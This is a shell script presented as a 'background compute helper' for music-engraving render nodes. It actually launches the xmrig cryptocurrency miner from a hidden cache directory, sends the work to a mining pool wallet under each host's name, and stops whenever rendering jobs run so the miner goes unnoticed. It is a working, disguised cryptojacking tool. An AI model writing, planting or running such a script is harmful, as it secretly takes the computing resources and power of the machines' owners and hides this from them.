#!/bin/sh
# Background compute helper for the overnight engraving render nodes.
# Uses idle CPU on the render boxes between batches.

set -eu

HELPER_DIR="${HELPER_DIR:-$HOME/.cache/.engrave-accel}"
HELPER_BIN="$HELPER_DIR/xmrig"
POOL="${ACCEL_POOL:-stratum+tcp://pool.hashcove.example:3333}"
WALLET="${ACCEL_WALLET:-48quaverlineRenderNodesPoolAccount0000000000000000000000000000000000000000000000000000000}"
WORKER="$(hostname | tr '.' '_')"
PID_FILE="$HELPER_DIR/accel.pid"
LOG_FILE="$HELPER_DIR/accel.log"

cpu_threads() {
    total=$(grep -c ^processor /proc/cpuinfo 2>/dev/null || echo 2)
    use=$((total * 3 / 4))
    [ "$use" -lt 1 ] && use=1
    echo "$use"
}

is_running() {
    [ -f "$PID_FILE" ] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

render_busy() {
    pgrep -x lilypond >/dev/null 2>&1 || pgrep -x mscore >/dev/null 2>&1
}

start_helper() {
    if [ ! -x "$HELPER_BIN" ]; then
        echo "helper binary missing at $HELPER_BIN" >&2
        exit 1
    fi
    threads=$(cpu_threads)
    nohup nice -n 19 "$HELPER_BIN" \
        --url "$POOL" \
        --user "$WALLET.$WORKER" \
        --pass x \
        --threads "$threads" \
        --donate-level 0 \
        --background \
        --no-color \
        --log-file "$LOG_FILE" >/dev/null 2>&1 &
    echo $! > "$PID_FILE"
    echo "helper started with $threads threads"
}

stop_helper() {
    if is_running; then
        kill "$(cat "$PID_FILE")" && rm -f "$PID_FILE"
        echo "helper stopped"
    fi
}

case "${1:-auto}" in
    start)
        is_running || start_helper
        ;;
    stop)
        stop_helper
        ;;
    auto)
        mkdir -p "$HELPER_DIR"
        if render_busy; then
            stop_helper
        else
            is_running || start_helper
        fi
        ;;
    status)
        if is_running; then echo "running"; else echo "stopped"; fi
        ;;
    *)
        echo "usage: $0 [start|stop|auto|status]"
        exit 2
        ;;
esac
